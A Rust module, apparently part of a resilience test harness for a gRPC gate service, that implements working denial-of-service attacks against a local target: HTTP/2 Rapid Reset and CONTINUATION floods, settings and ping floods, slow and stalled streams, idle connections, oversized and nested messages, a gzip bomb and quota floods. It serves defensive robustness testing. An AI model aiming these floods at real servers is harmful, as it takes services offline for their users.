//! The attacks, each for as long as it is let. Each is bounded in what it sends in a second, so that what is measured is
//! the service and not how busy the attacker keeps the machine. It must not know how it is measured.

use std::io::Write as _;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};
use std::time::Duration;

use bytes::{BufMut as _, Bytes, BytesMut};
use flate2::Compression;
use flate2::write::GzEncoder;
use futures::StreamExt as _;
use futures::future::join_all;
use futures::stream::FuturesUnordered;
use proto::gate::v1::gate_service_client::GateServiceClient;
use tokio::io::AsyncWriteExt as _;
use tonic::codec::{Codec, CompressionEncoding, DecodeBuf, Decoder, EncodeBuf, Encoder};
use tonic::codegen::http::uri::PathAndQuery;
use tonic::metadata::AsciiMetadataValue;
use tonic::transport::Endpoint;
use tonic::{Request, Status};

use super::Target;
use super::frames::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING,
    RST_STREAM, SETTINGS,
};

/// What an attack of floods does at once, on each of its connections.
const CONNECTIONS: usize = 4;
const SLOW_CONNECTIONS: usize = 6;
/// How long each flooding connection rests after what it has sent.
const REST: Duration = Duration::from_millis(5);
/// How long one that was thrown out waits.
const THROWN_OUT: Duration = Duration::from_millis(20);
/// The first address of the attacker; it has some more.
const ADDRESS: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 9);
const ADDRESSES: u8 = 6;

/// A party with a quota of its own, so small that ten times as much leaves the machine time for others.
pub const HASTY: &str = "hasty";
const HASTY_CALLS_PER_SECOND: u32 = 30;
/// So many times its quota it asks for.
const HASTE: u32 = 10;

/// Its quota, as gate is told.
pub fn hasty_quota() -> (String, String) {
    let quota = format!(
        "[{{ party = \"{HASTY}\", calls_per_second_max = {HASTY_CALLS_PER_SECOND}, \
         calls_burst_max = {HASTY_CALLS_PER_SECOND}, calls_in_hand_max = 64, streams_max = 8 }}]"
    );
    ("GATE_SERVER__QUOTA__PARTIES".to_owned(), quota)
}

/// What an attack has done so far.
#[derive(Debug, Default)]
pub struct Tally {
    /// Chunks of frames, calls or connections that went out.
    pub sent: AtomicU64,
    /// How often it was thrown out or refused.
    pub refused: AtomicU64,
}

impl Tally {
    fn sent(&self) {
        self.sent.fetch_add(1, Ordering::Relaxed);
    }

    fn refused(&self) {
        self.refused.fetch_add(1, Ordering::Relaxed);
    }
}

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    /// Calls that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (CVE-2024-27316).
    Continuation,
    /// Settings, each of which must be acknowledged.
    Settings,
    /// Pings, each of which must be answered; the answers are not read.
    Ping,
    /// A message byte by byte.
    TinyData,
    /// Calls whose answers may never be sent.
    ZeroWindow,
    /// Calls whose messages come a byte a second.
    SlowBody,
    /// Five thousand connections that do nothing; half of them say that they speak HTTP/2.
    Idle,
    /// Messages larger than any may be.
    Oversize,
    /// Messages within messages, deeper than any are.
    Nested,
    /// A message with a million empty elements.
    Repeated,
    /// One with as many as a message may have.
    RepeatedMost,
    /// A message that is a thousand times larger than it seems.
    Bomb,
    /// Ten times as many good filings as the party's quota lets through; compared with as many as it does.
    OverQuota,
    /// As many.
    #[value(skip)]
    AtQuota,
}

impl Attack {
    /// Attacks until it is dropped.
    pub async fn go_on(self, target: &Target, tally: &Tally) {
        match self {
            Self::RapidReset => {
                flood(target, tally, b"", |stream| {
                    let mut chunk = Vec::new();
                    for number in 0..100 {
                        let stream = *stream + 2 * number;
                        let flags = END_HEADERS | END_STREAM;
                        chunk.extend(frames::frame(HEADERS, flags, stream, &target.headers));
                        chunk.extend(frames::frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                    }
                    *stream += 200;
                    chunk
                })
                .await
            }
            Self::Continuation => {
                flood(target, tally, b"", |stream| {
                    let mut chunk = Vec::new();
                    if *stream == 1 {
                        chunk.extend(frames::frame(HEADERS, 0, 1, &target.headers));
                    }
                    *stream = 3;
                    let mut block = vec![0_u8, 1, b'x', 126];
                    block.extend([b'y'; 126]);
                    for _ in 0..8 {
                        chunk.extend(frames::frame(CONTINUATION, 0, 1, &block.repeat(100)));
                    }
                    chunk
                })
                .await
            }
            Self::Settings => {
                flood(target, tally, b"", |_| {
                    frames::frame(SETTINGS, 0, 0, &frames::setting(3, 100)).repeat(500)
                })
                .await
            }
            Self::Ping => {
                flood(target, tally, b"", |_| {
                    frames::frame(PING, 0, 0, &[7; 8]).repeat(500)
                })
                .await
            }
            Self::TinyData => {
                flood(target, tally, b"", |stream| {
                    let mut chunk = Vec::new();
                    if *stream == 1 {
                        chunk.extend(frames::frame(HEADERS, END_HEADERS, 1, &target.headers));
                        // A message of a mebibyte is to come.
                        chunk.extend(frames::frame(DATA, 0, 1, &[0, 0, 16, 0, 0]));
                    }
                    *stream = 3;
                    chunk.extend(frames::frame(DATA, 0, 1, &[0]).repeat(500));
                    chunk
                })
                .await
            }
            Self::ZeroWindow => {
                let closed = frames::setting(INITIAL_WINDOW_SIZE, 0);
                flood(target, tally, &closed, |stream| {
                    let mut chunk = Vec::new();
                    // All at once, and then it waits.
                    while *stream < 400 {
                        chunk.extend(frames::frame(
                            HEADERS,
                            END_HEADERS,
                            *stream,
                            &target.headers,
                        ));
                        chunk.extend(frames::frame(DATA, END_STREAM, *stream, &[0; 5]));
                        *stream += 2;
                    }
                    chunk
                })
                .await;
            }
            Self::SlowBody => slow_bodies(target, tally).await,
            Self::Idle => idle(target, tally).await,
            Self::Oversize => calls(target, tally, &Bytes::from(vec![0; 16 << 20])).await,
            Self::Nested => calls(target, tally, &Bytes::from(vec![0x0b; 1 << 20])).await,
            Self::Repeated => calls(target, tally, &Bytes::from([0x3a, 0].repeat(1_000_000))).await,
            Self::RepeatedMost => {
                let most = [0x3a, 0].repeat(proto::codec::REQUEST_SIZE.fields_max);
                calls(target, tally, &Bytes::from(most)).await;
            }
            Self::Bomb => bombs(target, tally).await,
            Self::OverQuota => trucks(target, tally, HASTY_CALLS_PER_SECOND * HASTE).await,
            Self::AtQuota => trucks(target, tally, HASTY_CALLS_PER_SECOND).await,
        }
    }
}

/// Floods over some connections; what to send next follows from the next free stream.
async fn flood(
    target: &Target,
    tally: &Tally,
    settings: &[u8],
    mut chunk: impl FnMut(&mut u32) -> Vec<u8>,
) {
    let mut open = Vec::new();
    loop {
        while open.len() < CONNECTIONS {
            match frames::begin(ADDRESS, target.address, settings).await {
                Ok((reading, writing)) => {
                    open.push((tokio::spawn(frames::discard(reading)), writing, 1_u32))
                }
                Err(_) => {
                    tally.refused();
                    tokio::time::sleep(THROWN_OUT).await;
                }
            }
        }
        let mut still_open = Vec::new();
        for (discarding, mut writing, mut stream) in open {
            let bytes = chunk(&mut stream);
            let written = tokio::time::timeout(THROWN_OUT, writing.write_all(&bytes)).await;
            match written {
                // It takes no more for now: no harm is done by waiting.
                Ok(Ok(())) | Err(_) if !discarding.is_finished() => {
                    tally.sent();
                    still_open.push((discarding, writing, stream));
                }
                _ => {
                    tally.refused();
                    discarding.abort();
                    tokio::time::sleep(THROWN_OUT).await;
                }
            }
        }
        open = still_open;
        tokio::time::sleep(REST).await;
    }
}

/// As many calls as a connection may have on each of some, of which a byte comes each second: more than the service
/// takes in hand.
async fn slow_bodies(target: &Target, tally: &Tally) {
    let slow = async || -> anyhow::Result<()> {
        let (reading, mut writing) = frames::begin(ADDRESS, target.address, b"").await?;
        let discarding = tokio::spawn(frames::discard(reading));
        let streams = (0..1_000_u32).map(|number| 2 * number + 1);
        for stream in streams.clone() {
            let headers = frames::frame(HEADERS, END_HEADERS, stream, &target.headers);
            writing.write_all(&headers).await?;
            tally.sent();
        }
        while !discarding.is_finished() {
            let bytes: Vec<u8> = streams
                .clone()
                .flat_map(|stream| frames::frame(DATA, 0, stream, &[0]))
                .collect();
            writing.write_all(&bytes).await?;
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
        anyhow::bail!("thrown out")
    };
    join_all((0..SLOW_CONNECTIONS).map(|_| async {
        loop {
            if slow().await.is_err() {
                tally.refused();
                tokio::time::sleep(THROWN_OUT).await;
            }
        }
    }))
    .await;
}

async fn idle(target: &Target, tally: &Tally) {
    let mut held = Vec::new();
    for number in 0..5_000_u32 {
        let octet = 9 + u8::try_from(number % u32::from(ADDRESSES)).unwrap_or(0);
        let from = Ipv4Addr::new(127, 0, 0, octet);
        let connected = match number % 2 {
            0 => frames::connect(from, target.address)
                .await
                .map(|stream| (Some(stream), None)),
            _ => frames::begin(from, target.address, b"")
                .await
                .map(|halves| (None, Some(halves))),
        };
        match connected {
            Ok(connection) => {
                tally.sent();
                held.push(connection);
            }
            Err(_) => tally.refused(),
        }
        if number % 50 == 0 {
            tokio::time::sleep(REST).await;
        }
    }
    std::future::pending::<()>().await;
    drop(held);
}

/// The same message over and over, some at once.
async fn calls(target: &Target, tally: &Tally, message: &Bytes) {
    send(target, tally, message, None).await;
}

/// Half a gibibyte of zeros, packed into half a mebibyte.
async fn bombs(target: &Target, tally: &Tally) {
    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
    let zeros = vec![0; 1 << 20];
    for _ in 0..512 {
        // Into memory: it does not fail.
        let _ = packed.write_all(&zeros);
    }
    let packed = Bytes::from(packed.finish().unwrap_or_default());
    send(target, tally, &packed, Some(CompressionEncoding::Gzip)).await;
}

async fn send(
    target: &Target,
    tally: &Tally,
    message: &Bytes,
    packed_as: Option<CompressionEncoding>,
) {
    let endpoint = Endpoint::from_shared(format!("http://{}", target.address));
    let Ok(endpoint) = endpoint else { return };
    let channel = endpoint.local_address(Some(ADDRESS.into())).connect_lazy();
    let one = async || {
        if packed_as.is_some() {
            return packed(target, message).await;
        }
        let mut client = tonic::client::Grpc::new(channel.clone());
        client
            .ready()
            .await
            .map_err(|error| Status::unavailable(error.to_string()))?;
        let mut request = Request::new(message.clone());
        let bearer = target.bearer.parse();
        let bearer = bearer.map_err(|_| Status::internal("no header"))?;
        request.metadata_mut().insert("authorization", bearer);
        let path = PathAndQuery::from_static(super::FILING);
        client.unary(request, path, Raw).await.map(drop)
    };
    join_all((0..CONNECTIONS).map(|_| async {
        loop {
            tally.sent();
            if one().await.is_err() {
                tally.refused();
            }
            tokio::time::sleep(THROWN_OUT).await;
        }
    }))
    .await;
}

/// Trucks of the hasty party, evenly, whatever the answers are.
async fn trucks(target: &Target, tally: &Tally, per_second: u32) {
    // Of another row than those of honest callers, and none twice.
    static PLATES: AtomicU32 = AtomicU32::new(50_000);
    let endpoint = Endpoint::from_shared(format!("http://{}", target.address));
    let Ok(endpoint) = endpoint else { return };
    let channel = endpoint.local_address(Some(ADDRESS.into())).connect_lazy();
    let Ok(bearer) = target.hasty_bearer.parse::<AsciiMetadataValue>() else {
        return;
    };
    let mut beat = tokio::time::interval(Duration::from_secs(1) / per_second);
    let mut calls = FuturesUnordered::new();
    loop {
        tokio::select! {
            _ = beat.tick() => {
                let plate = PLATES.fetch_add(1, Ordering::Relaxed);
                let mut request = Request::new(super::truck(plate));
                request.metadata_mut().insert("authorization", bearer.clone());
                let mut client = GateServiceClient::new(channel.clone());
                tally.sent();
                calls.push(async move { client.submit_pre_arrival(request).await.is_err() });
            }
            Some(refused) = calls.next() => {
                if refused {
                    tally.refused();
                }
            }
        }
    }
}

/// A call whose message says that it is compressed, in frames of our own: it fits into the first window.
async fn packed(target: &Target, message: &Bytes) -> Result<(), Status> {
    let failed = |error: &dyn std::fmt::Display| Status::unavailable(error.to_string());
    let begun = frames::begin(ADDRESS, target.address, b"").await;
    let (reading, mut writing) = begun.map_err(|error| failed(&error))?;
    let discarding = tokio::spawn(frames::discard(reading));
    let mut sent = frames::frame(HEADERS, END_HEADERS, 1, &target.packed_headers);
    let mut body = BytesMut::new();
    body.put_u8(1);
    body.put_u32(u32::try_from(message.len()).unwrap_or(u32::MAX));
    body.extend_from_slice(message);
    let count = body.len().div_ceil(16_384);
    for (index, part) in body.chunks(16_384).enumerate() {
        let flags = if index + 1 == count { END_STREAM } else { 0 };
        sent.extend(frames::frame(DATA, flags, 1, part));
    }
    let written = writing.write_all(&sent).await;
    written.map_err(|error| failed(&error))?;
    // Long enough for it to be unpacked.
    tokio::time::sleep(Duration::from_millis(300)).await;
    discarding.abort();
    Err(Status::resource_exhausted("whatever it said"))
}

/// Bytes as they are.
struct Raw;

impl Codec for Raw {
    type Encode = Bytes;
    type Decode = ();
    type Encoder = Raw;
    type Decoder = Raw;

    fn encoder(&mut self) -> Raw {
        Raw
    }

    fn decoder(&mut self) -> Raw {
        Raw
    }
}

impl Encoder for Raw {
    type Item = Bytes;
    type Error = Status;

    fn encode(&mut self, item: Bytes, buffer: &mut EncodeBuf<'_>) -> Result<(), Status> {
        buffer.put(item);
        Ok(())
    }
}

impl Decoder for Raw {
    type Item = ();
    type Error = Status;

    fn decode(&mut self, buffer: &mut DecodeBuf<'_>) -> Result<Option<()>, Status> {
        use bytes::Buf as _;
        buffer.advance(buffer.remaining());
        Ok(Some(()))
    }
}
